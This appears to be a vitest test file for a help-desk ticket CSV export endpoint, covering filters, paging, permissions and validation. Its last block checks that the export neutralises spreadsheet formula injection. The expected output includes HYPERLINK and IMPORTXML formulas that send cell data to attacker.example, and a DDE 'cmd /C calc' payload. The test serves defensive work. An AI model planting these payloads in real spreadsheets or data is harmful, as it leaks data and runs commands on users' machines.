// GET /tickets/export: the CSV parsed back and compared with the database; scope and filters;
// case 16 (formula injection).
import fs from "node:fs";
import { parse } from "csv-parse/sync";
import { and, eq, inArray, sql } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import { createTestDb } from "@/db/testing";
import { POST as ticketsJson } from "@/app/api/tickets.json/route";
import { createApiKey } from "@/lib/api-keys";
import { updateSettings } from "@/lib/config/settings";
import { pipeToDatabase } from "@/lib/inbound";
import { departments, tickets, users } from "@/db/schema";
import type { TicketDetail } from "@/lib/tickets";
import { setupTestAuth, staffRequest } from "@/test/auth";
import { setApiEnv } from "@/test/intake-env";
import { apiRequest } from "@/test/intake-http";
import { api } from "@/test/staff-api";
import { type Cast, createStaff, seedStaffCast } from "@/test/staff-factory";
import { addAttachment, addEntry, createTicket } from "@/test/ticket-factory";
import { GET as getTicket } from "../[tid]/route";
import { GET } from "./route";

setApiEnv();
setupTestAuth();
const { db } = await createTestDb();
let cast: Cast;
beforeAll(async () => {
  cast = await seedStaffCast(db);
});

async function exportCsv(as: Cast["admin"], query = "") {
  const res = await GET(await staffRequest(`/api/staff/tickets/export${query}`, { as }));
  const bytes = Buffer.from(await res.arrayBuffer());
  const text = bytes.toString("utf8");
  const records = res.status === 200 ? (parse(text, { bom: true, columns: true, relax_column_count: false }) as Record<string, string>[]) : [];
  return { res, bytes, text, records };
}

describe("GET /tickets/export", () => {
  let exporter: Awaited<ReturnType<typeof createStaff>>;
  const ids: number[] = [];
  beforeAll(async () => {
    exporter = await createStaff(db, { deptIds: [cast.support.id], name: "Exporter" });
    for (let i = 0; i < 25; i++) {
      const t = await createTicket(db, { deptId: cast.support.id, subject: `Export me ${i}`, staffId: i % 3 === 0 ? exporter.id : null, status: i % 4 === 0 ? "closed" : "open" });
      if (i % 5 === 0) {
        const e = await addEntry(db, { ticketId: t.id, type: "response", staffId: exporter.id, text: "Reply" });
        await addAttachment(db, { ticketId: t.id, entryId: e.id, name: `f${i}.txt`, bytes: Buffer.from(`file ${i}`) });
      }
      ids.push(t.id);
    }
    await createTicket(db, { deptId: cast.billing.id, subject: "Billing only" });
    const gone = await createTicket(db, { deptId: cast.support.id, subject: "Deleted one" });
    await db.update(tickets).set({ status: "deleted", deletedAt: new Date() }).where(eq(tickets.id, gone.id));
  });

  it("streams UTF-8 with BOM, CRLF rows and a dated file name, and every row matches the database", async () => {
    const { res, bytes, text, records } = await exportCsv(exporter);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="tickets-\d{8}\.csv"$/);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text.split("\r\n").length).toBe(records.length + 2);
    const dbRows = await db
      .select({
        number: tickets.number,
        subject: tickets.subject,
        status: tickets.status,
        dept: departments.name,
        email: users.email,
        threadCount: sql<number>`(SELECT count(*)::int FROM thread_entries e WHERE e.ticket_id = ${tickets.id})`,
        attachmentCount: sql<number>`(SELECT count(*)::int FROM attachments a WHERE a.ticket_id = ${tickets.id})`,
        assignee: sql<string | null>`(SELECT name FROM staff s WHERE s.id = ${tickets.staffId})`,
        created: tickets.createdAt,
      })
      .from(tickets)
      .innerJoin(departments, eq(departments.id, tickets.deptId))
      .innerJoin(users, eq(users.id, tickets.userId))
      .where(and(eq(tickets.deptId, cast.support.id), sql`${tickets.status} <> 'deleted'`))
      .orderBy(sql`${tickets.id} DESC`);
    expect(records.map((r) => r["Ticket Number"])).toEqual(dbRows.map((r) => r.number));
    records.forEach((r, i) => {
      const d = dbRows[i];
      expect(r).toMatchObject({
        Subject: d.subject,
        "Current Status": d.status,
        Department: d.dept,
        "From Email": d.email,
        "Thread Count": String(d.threadCount),
        "Attachment Count": String(d.attachmentCount),
        "Agent Assigned": d.assignee ?? "",
        "Date Created (UTC)": d.created.toISOString().slice(0, 19).replace("T", " "),
      });
    });
    expect(records.some((r) => r.Subject === "Billing only" || r.Subject === "Deleted one")).toBe(false);
  });

  it("applies the filters and a chosen column subset", async () => {
    const { records } = await exportCsv(exporter, "?status=any_open&assignee=me&columns=number,subject,assignee");
    const expected = await db
      .select({ number: tickets.number })
      .from(tickets)
      .where(and(inArray(tickets.id, ids), eq(tickets.staffId, exporter.id), sql`${tickets.status} = 'open'`));
    expect(records.map((r) => r["Ticket Number"]).sort()).toEqual(expected.map((r) => r.number).sort());
    expect(Object.keys(records[0])).toEqual(["Ticket Number", "Subject", "Agent Assigned"]);
  });

  it("keeps the list's order: the sort in the URL", async () => {
    const bySubject = await exportCsv(exporter, "?q=Export&sort=subject:desc&columns=subject");
    const subjects = bySubject.records.map((r) => r.Subject);
    expect(subjects.length).toBeGreaterThan(20);
    expect(subjects).toEqual([...subjects].sort((a, b) => b.toLowerCase().localeCompare(a.toLowerCase())));
    const byNumber = await exportCsv(exporter, "?q=Export&sort=number:asc&columns=number");
    const numbers = byNumber.records.map((r) => r["Ticket Number"]);
    expect(numbers).toEqual([...numbers].sort((a, b) => Number(a) - Number(b)));
  });

  it("pages in keyset batches without losing or repeating a row, in any sort", async () => {
    const { exportTicketsCsv } = await import("@/lib/tickets");
    const { criteriaSchema } = await import("@/lib/search");
    for (const sort of ["subject:asc", "status:desc", "priority:asc", "updated:desc", "assignee:asc"]) {
      const read = async (batch: number) => {
        const csv = await new Response(await exportTicketsCsv(db, { ...exporter, deptIds: [cast.support.id], teamIds: [] }, criteriaSchema.parse({ q: "Export", sort }), ["number"], undefined, batch)).text();
        return (parse(csv, { bom: true, columns: true }) as Record<string, string>[]).map((r) => r["Ticket Number"]);
      };
      const whole = await read(1000);
      expect(await read(3), sort).toEqual(whole);
      expect(new Set(whole).size).toBe(whole.length);
    }
  });

  it("exports a queue: its criteria, refined by criteria in the URL, and named after it", async () => {
    const mine = await exportCsv(exporter, "?queue=mine&columns=number");
    expect(mine.res.headers.get("content-disposition")).toMatch(/filename="mine-\d{8}\.csv"/);
    const expected = await db
      .select({ number: tickets.number })
      .from(tickets)
      .where(and(eq(tickets.staffId, exporter.id), sql`${tickets.status} IN ('open', 'awaiting_client')`));
    expect(mine.records.map((r) => r["Ticket Number"]).sort()).toEqual(expected.map((r) => r.number).sort());
    const closedMine = await exportCsv(exporter, "?queue=mine&status=closed&columns=number");
    const expectedClosed = await db.select({ number: tickets.number }).from(tickets).where(and(eq(tickets.staffId, exporter.id), eq(tickets.status, "closed")));
    expect(closedMine.records.map((r) => r["Ticket Number"]).sort()).toEqual(expectedClosed.map((r) => r.number).sort());
    const bad = await api(exporter).get(GET, "/api/staff/tickets/export?queue=nope", {});
    expect(bad.status).toBe(400);
    expect(Object.keys(bad.json.errors!)).toEqual(["queue"]);
    expect((await api(exporter).get(GET, "/api/staff/tickets/export?queue=999999", {})).status).toBe(404);
  });

  it("searches text like GET /search", async () => {
    const { records } = await exportCsv(exporter, "?q=export%20me&columns=subject");
    expect(records).toHaveLength(25);
  });

  it("exports only what the caller may see", async () => {
    const { records } = await exportCsv(cast.agentB);
    expect(records.map((r) => r.Subject)).toEqual(["Billing only"]);
  });

  it("names a bad filter", async () => {
    const res = await api(exporter).get(GET, "/api/staff/tickets/export?columns=number,password", {});
    expect(res.status).toBe(400);
    expect(Object.keys(res.json.errors!)).toEqual(["columns.1"]);
  });

  it.each([
    ["columns=number,number", { columns: "A column is listed twice" }],
    ["tids=-1", { "tids.0": "must be a positive id" }],
    ["tids=1.5", { "tids.0": "must be a whole number" }],
    ["tids=2147483648", { "tids.0": "no such id (too large)" }],
    ["createdFrom=0000-01-01", { createdFrom: "must fall between 1970-01-01 and 9999-12-31" }],
    ["createdTo=9999-12-31", { createdTo: "must fall between 1970-01-01 and 9999-12-31" }],
    ["assignee=s9999999999", { "assignee.0": "no such staff member or team (id too large)" }],
    ["queue=open&dueTo=2024-02-30", { dueTo: "is not a day of the calendar" }],
  ])("%s is a 400 saying what is wrong", async (qs, errors) => {
    const res = await api(exporter).get(GET, `/api/staff/tickets/export?${qs}`, {});
    expect([res.status, res.json.errors]).toEqual([400, errors]);
  });
});

// Case 16 (test/fixtures/cases/16-csv-formula-injection): the three API requests go through
// POST /api/tickets.json byte for byte and the mail through the inbound pipe; this product has
// no tags (the API lists them as a warning and expected.md skips them).
describe("case 16: CSV export neutralises spreadsheet formulas", () => {
  const dir = "test/fixtures/cases/16-csv-formula-injection";
  it("writes the expected raw fields and keeps the original text in the API", async () => {
    const admin2 = await createStaff(db, { role: "admin", name: "Case Admin" });
    const dept = (await db.insert(departments).values({ name: "Case 16" }).returning())[0];
    await updateSettings(db, { defaultDeptId: dept.id });
    const { key } = await createApiKey(db, { name: "case 16" });
    const made: number[] = [];
    for (const f of ["request-1.json", "request-2.json", "request-3.json"]) {
      const res = await ticketsJson(apiRequest("/api/tickets.json", fs.readFileSync(`${dir}/${f}`), { key, accept: "application/json", contentType: "application/json" }));
      expect(res.status).toBe(201);
      made.push((await res.json()).data.tid);
    }
    expect((await pipeToDatabase(db, fs.readFileSync(`${dir}/input-email.eml`))).code).toBe(0);

    const { text, records } = await exportCsv(admin2, `?deptId=${dept.id}`);
    expect(records).toHaveLength(4);
    expect(text).toContain(`"'=HYPERLINK(""https://attacker.example/?leak=""&A2,""Click for details"")"`);
    expect(text).toContain(`'+1 555 0100 Ops`);
    expect(text).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
    expect(text).toContain(`"'\t=1+1"`);
    expect(text).toContain(`'-5 degrees in the server room`);
    expect(text).toContain(`"'=IMPORTXML(CONCAT(""https://attacker.example/?d="",A1),""//a"")"`);
    expect(text).toContain(`,'=1+2,`);
    expect(text).toContain(`"Line one\nLine two, with comma and ""quotes"""`);
    expect(text.endsWith("\r\n")).toBe(true);
    // Every data row has every column (a quoted newline does not split a row).
    expect(new Set(records.map((r) => Object.keys(r).length)).size).toBe(1);

    const view = await api(admin2).get<TicketDetail>(getTicket, `/api/staff/tickets/${made[0]}`, { tid: String(made[0]) });
    expect(view.json.data!.subject).toBe('=HYPERLINK("https://attacker.example/?leak="&A2,"Click for details")');
    expect(view.json.data!.user.name).toBe("+1 555 0100 Ops");
    await updateSettings(db, { defaultDeptId: cast.support.id });
  });
});
